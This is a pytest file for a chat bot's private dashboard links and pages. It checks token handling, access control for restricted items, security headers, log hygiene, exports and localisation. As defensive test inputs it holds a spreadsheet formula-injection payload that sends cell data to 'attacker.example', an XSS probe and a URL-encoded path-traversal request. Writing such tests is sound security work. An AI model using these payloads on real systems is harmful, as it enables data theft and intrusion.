"""The dashboard: a private link from chat, and the read-only page it opens, through the real server.

The page is what the link's owner may see and nothing more: a restricted item
is on its owner's page and on nobody else's (not in a list, a count, a filter,
a timeline, a download or an item page), and a wrong, revoked or calendar token
opens exactly what a URL that was never there opens.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import logging
import re

import httpx
import pytest
from sqlmodel import select

from bot.settings import Settings
from handlers import answer
from handlers.domain.ports import Requester
from handlers.pages.export import CSV_COLUMNS
from handlers.views.reply import Tone, Visibility
from handlers.views.text import render_text
from models.db import session
from models.revision import agenda_changed
from models.tables import AuditEntry, Commitment, DashboardLink, Person
from scheduling.clock import FixedClock
from tests.conftest import TODAY, settings_for
from tests.live_server import live_server

PUBLIC = "https://agenda.example.org"
LINK = re.compile(re.escape(PUBLIC) + r"(/dashboard/([A-Za-z0-9_-]{43})/)")
ADMIN = Requester(user_ref="slack:UADMIN")
OWNER = Requester(user_ref="slack:UMARIA")
MEMBER = Requester(user_ref="slack:UMEMBER")
SECRET = "2005-E1"  # made restricted and assigned to OWNER in the tests that need it


@pytest.fixture
def agenda(ports):
    return dataclasses.replace(ports, admins=frozenset({ADMIN.user_ref}), public_url=PUBLIC)


def ask(ports, who: Requester, text: str, where: Visibility = Visibility.private):
    return answer(text, ports=ports, requester=who, audience=where)


def link_for(ports, who: Requester) -> str:
    found = LINK.search(render_text(ask(ports, who, "dashboard")))
    assert found, "no dashboard link in the answer"
    return found.group(1)


def restrict_for_owner(ports) -> None:
    assert ask(ports, ADMIN, f"assign {SECRET} <@{OWNER.user_ref}>").tone == Tone.answer
    assert ask(ports, ADMIN, f"sensitivity {SECRET} restricted").tone == Tone.answer


# -- the link, from chat ---------------------------------------------------------------


@pytest.mark.parametrize("backend", ["sqlite"])
def test_the_link_is_given_only_in_private_once_and_stored_as_a_digest(agenda, engine):
    shared = ask(agenda, MEMBER, "dashboard", Visibility.channel)
    assert "/dashboard/" not in render_text(shared) and "private" in shared.title
    path = link_for(agenda, MEMBER)
    token = path.split("/")[2]
    again = ask(agenda, MEMBER, "dashboard")
    assert "/dashboard/" not in render_text(again) and "already" in again.title
    with session(engine) as db:
        row = db.exec(select(DashboardLink)).one()
        assert row.user_ref == MEMBER.user_ref and token not in row.token_sha256
        audited = db.exec(select(AuditEntry).where(AuditEntry.action == "dashboard link")).one()
        assert token not in repr(audited.after)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_only_admins_revoke_someone_elses_link(agenda, engine):
    link_for(agenda, MEMBER)
    refused = ask(agenda, OWNER, f"dashboard revoke <@{MEMBER.user_ref}>")
    assert refused.tone == Tone.notice and "admin" in render_text(refused).lower()  # a refusal, with who may
    assert "Revoked" in ask(agenda, ADMIN, f"dashboard revoke <@{MEMBER.user_ref}>").title
    assert ask(agenda, MEMBER, "dashboard revoke").tone == Tone.notice  # nothing left to revoke
    assert ask(agenda, MEMBER, "dashboard nonsense").tone == Tone.error


# -- the page, over HTTP ---------------------------------------------------------------


def _settings(database_url: str) -> Settings:
    return settings_for(database_url, scheduler_enabled=False, public_url=PUBLIC)


@pytest.fixture
def server(agenda, database_url):
    with live_server(_settings(database_url), clock=FixedClock(TODAY)) as base:
        yield base


def get(base: str, path: str, headers: dict | None = None, **params) -> httpx.Response:
    return httpx.get(base + path, params=params, headers=headers, timeout=10)


@pytest.mark.parametrize("backend", ["sqlite"])
def test_the_page_shows_areas_timeline_items_and_an_as_of_time(agenda, server):
    page = get(server, link_for(agenda, MEMBER))
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    for header, value in {
        "cache-control": "no-store",
        "referrer-policy": "no-referrer",
        "x-frame-options": "DENY",
    }.items():
        assert page.headers[header] == value
    assert "script-src" not in page.headers["content-security-policy"]  # no script is allowed at all
    html = page.text
    assert "<h1>Dashboard</h1>" in html and "As of" in html and "Ottawa" in html and "Tokyo" in html
    assert "Counter-terrorism" in html and "Political-Military Talks" in html
    assert 'href="item/2002-A4"' in html  # every item links to its page
    assert "projected" in html  # the timeline says which dates are estimates


@pytest.mark.parametrize("backend", ["sqlite"])
def test_filters_narrow_every_part_of_the_page_and_unknown_values_are_ignored(agenda, server):
    path = link_for(agenda, MEMBER)
    everything = get(server, path).text
    narrowed = get(server, path, area="counter-terrorism").text
    assert narrowed.count('<tr>\n    <td><a href="item/') < everything.count('<tr>\n    <td><a href="item/')
    assert "match the filters" in narrowed and 'value="counter-terrorism" selected' in narrowed
    ignored = get(server, path, area="<script>alert(1)</script>", status="nonsense").text
    assert "<script>" not in ignored and "match the filters" not in ignored
    nothing = get(server, path, area="counter-terrorism", status="dropped").text
    assert "No commitment matches these filters" in nothing or "match the filters" in nothing


@pytest.mark.parametrize("backend", ["sqlite"])
def test_an_items_page_quotes_the_agreed_text_cites_it_and_says_where_facts_come_from(agenda, server):
    assert ask(agenda, ADMIN, "status 2002-A4 in progress").tone == Tone.answer
    page = get(server, link_for(agenda, MEMBER) + "item/2002-A4")
    assert page.status_code == 200
    html = page.text
    assert "Agreed text" in html and "<blockquote" in html and "2002" in html
    assert "assumed" in html  # seeded owners are the curator's inference, and say so
    assert "set by" in html and "History" in html  # the status change, with who and when
    assert get(server, link_for(agenda, OWNER) + "item/9999-Z9").status_code == 404


@pytest.mark.parametrize("backend", ["sqlite"])
def test_downloads_are_the_filtered_items_and_safe_to_open_in_a_spreadsheet(agenda, engine, server):
    path = link_for(agenda, MEMBER)
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    with session(engine) as db:  # a title as someone with edit rights could type it
        agenda_changed(db)  # as every writer of agenda rows must
        item = db.exec(select(Commitment).where(Commitment.key == "2002-A4")).one()
        item.title = formula
        db.add(item)
        db.commit()
    rows = list(csv.DictReader(io.StringIO(get(server, path + "export.csv", area="counter-terrorism").text)))
    assert rows and all("counter-terrorism" in row["areas"] for row in rows)
    assert next(row["title"] for row in rows if row["id"] == "2002-A4") == "'" + formula  # shown, never run
    every_cell = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "@")) for cell in every_cell)
    data = get(server, path + "export.json", area="counter-terrorism").json()
    assert [c["id"] for c in data["commitments"]] == [row["id"] for row in rows]


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_restricted_item_is_only_on_its_owners_page(agenda, server):
    restrict_for_owner(agenda)
    title = next(r for r in ask(agenda, ADMIN, f"show {SECRET}").sections[0].items).title
    owners_path, members_path = link_for(agenda, OWNER), link_for(agenda, MEMBER)
    assert SECRET in get(server, owners_path).text
    assert get(server, owners_path + f"item/{SECRET}").status_code == 200
    member_sees = [
        get(server, members_path).text,
        get(server, members_path, area="non-proliferation").text,
        get(server, members_path + "export.csv").text,
        get(server, members_path + "export.json").text,
    ]
    for text in member_sees:
        assert SECRET not in text and title not in text
    assert OWNER.user_ref.partition(":")[2] not in member_sees[0]  # not even in the owner filter
    hidden = get(server, members_path + f"item/{SECRET}")
    assert (hidden.status_code, hidden.text) == (404, "Not Found")


@pytest.mark.parametrize("backend", ["sqlite"])
def test_a_link_to_a_record_since_split_opens_its_first_part_which_names_the_others(agenda, server):
    path = link_for(agenda, MEMBER)
    old = get(server, path + "item/2005-D1")
    assert old.status_code == 303 and old.headers["location"] == "2005-D1a"
    part = httpx.get(server + path + "item/2005-D1", follow_redirects=True, timeout=10)
    assert part.status_code == 200 and part.url.path.endswith("/item/2005-D1a")
    assert "2005-D1, with 2005-D1b, 2005-D1c, 2005-D1d, 2005-D1e" in part.text
    assert get(server, path + "item/2005-D9").status_code == 404  # no such record, split or not
    # A part the viewer may not see is passed over, and not named on the others' pages; none visible: no page.
    ask(agenda, ADMIN, "sensitivity 2005-D1a restricted")
    assert get(server, path + "item/2005-D1").headers["location"] == "2005-D1b"
    assert "2005-D1a" not in get(server, path + "item/2005-D1b").text
    for part in "bcde":
        ask(agenda, ADMIN, f"sensitivity 2005-D1{part} restricted")
    assert get(server, path + "item/2005-D1").status_code == 404


@pytest.mark.parametrize("backend", ["sqlite"])
def test_wrong_revoked_and_calendar_tokens_open_nothing(agenda, server):
    path = link_for(agenda, MEMBER)
    token = path.split("/")[2]
    calendar = re.search(r"/calendar/([A-Za-z0-9_-]{43})\.ics", render_text(ask(agenda, MEMBER, "calendar")))
    never = get(server, "/no/such/page")
    answers = [
        get(server, f"/dashboard/{'A' * 43}/"),
        get(server, f"/dashboard/{calendar.group(1)}/"),  # a calendar token is not a dashboard token
        get(server, f"/calendar/{token}.ics"),  # nor the other way round
        get(server, f"/dashboard/{token}/item/..%2F..%2Fcalendar"),
        get(server, f"/dashboard/{token}/item/"),
    ]
    assert "Revoked" in ask(agenda, MEMBER, "dashboard revoke").title
    answers.append(get(server, path))
    answers.append(get(server, path + "export.csv"))
    for response in answers:
        assert (response.status_code, response.text) == (404, never.text)


class _Collect(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        if not record.name.startswith("httpx"):  # the test's own client
            self.lines.append(self.format(record))


@pytest.mark.parametrize("backend", ["sqlite"])
def test_the_token_never_reaches_the_logs(agenda, database_url):
    collect = _Collect()
    loggers = [logging.getLogger(name) for name in ("", "uvicorn.access", "bot", "handlers")]
    levels = [lg.level for lg in loggers]
    with live_server(_settings(database_url), clock=FixedClock(TODAY), log_level="info") as base:
        for lg in loggers:
            lg.addHandler(collect)
            lg.setLevel(logging.INFO)
        path = link_for(agenda, MEMBER)
        token = path.split("/")[2]
        assert get(base, path).status_code == 200
        assert get(base, path.replace(token, token[::-1])).status_code == 404
        for lg, level in zip(loggers, levels, strict=True):
            lg.removeHandler(collect)
            lg.setLevel(level)
    assert any("/dashboard/" in line for line in collect.lines)
    assert not any(token in line or token[::-1] in line for line in collect.lines)


# -- in the viewer's language ------------------------------------------------------------

FRENCH = Requester(user_ref="slack:UFRANCINE")
JAPANESE = Requester(user_ref="slack:UJUNKO")


@pytest.mark.parametrize("backend", ["sqlite"])
def test_the_page_is_in_the_language_its_owner_chose_in_chat_and_the_downloads_keep_their_columns(
    agenda, engine, server
):
    assert ask(agenda, FRENCH, "language fr").tone == Tone.answer  # chosen as in chat
    with session(engine) as db:  # or as a Person row says it
        db.add(Person(user_ref=JAPANESE.user_ref, display_name="Junko", language="ja"))
        db.commit()
    assert ask(agenda, ADMIN, "status 2002-A4 in progress").tone == Tone.answer
    english, french, japanese = (link_for(agenda, who) for who in (MEMBER, FRENCH, JAPANESE))
    # The three pages from one server, one after the other: each reader's words, read when rendered.
    browser_says = {"Accept-Language": "de-DE"}  # the device's, never the person's choice
    en, fr, ja = (get(server, path, headers=browser_says).text for path in (english, french, japanese))
    assert '<html lang="en">' in en and "<h1>Dashboard</h1>" in en and "Sun 22 Nov 10:00 Ottawa" in en
    assert '<html lang="fr">' in fr and "<h1>Tableau de bord</h1>" in fr and "Dashboard" not in fr
    assert "En date du" in fr and "dim. 22 nov. 10 h 00 Ottawa" in fr  # the "as of" line, both capitals
    assert ">Statut</label>" in fr and "Appliquer les filtres" in fr and "Calendrier" in fr
    assert "<td>réunion</td>" in fr and ">projetée</span>" in fr  # the timeline's kinds and states
    assert '<html lang="ja">' in ja and "<h1>ダッシュボード</h1>" in ja and "11月22日(日) 10:00 オタワ" in ja
    assert ">状況</label>" in ja and "<td>会合</td>" in ja and ">見込み</span>" in ja and "現在" in ja
    fr_item, ja_item = (get(server, path + "item/2002-A4").text for path in (french, japanese))
    assert '<html lang="fr">' in fr_item and "Texte convenu" in fr_item and "Historique" in fr_item
    assert "en cours</td>" in fr_item and "<td>au plus tard le mer. 31 déc. 2003</td>" in fr_item  # status, date
    assert ">Échéance</th>" in fr_item and "la date que donne le texte convenu" in fr_item  # a fact and its source
    assert '<html lang="ja">' in ja_item and "履歴" in ja_item and "、進行中</td>" in ja_item
    assert "<td>2003年12月31日(水)まで</td>" in ja_item and "合意文書に記載の日付" in ja_item
    # A page that is not there (or hidden: the same answer) says so in the reader's words; a wrong link, as Starlette.
    missing = {path: get(server, path + "item/9999-Z9") for path in (english, french, japanese)}
    assert [(r.status_code, r.text) for r in missing.values()] == [
        (404, "Not Found"), (404, "Page introuvable"), (404, "ページが見つかりません")
    ]  # fmt: skip
    # Machine keys stay English: a spreadsheet's or a script's columns do not change with the reader.
    columns = {path: next(csv.reader(io.StringIO(get(server, path + "export.csv").text))) for path in (english, french)}
    assert columns[french] == columns[english] == CSV_COLUMNS
    assert get(server, japanese + "export.json").json()["columns"] == CSV_COLUMNS
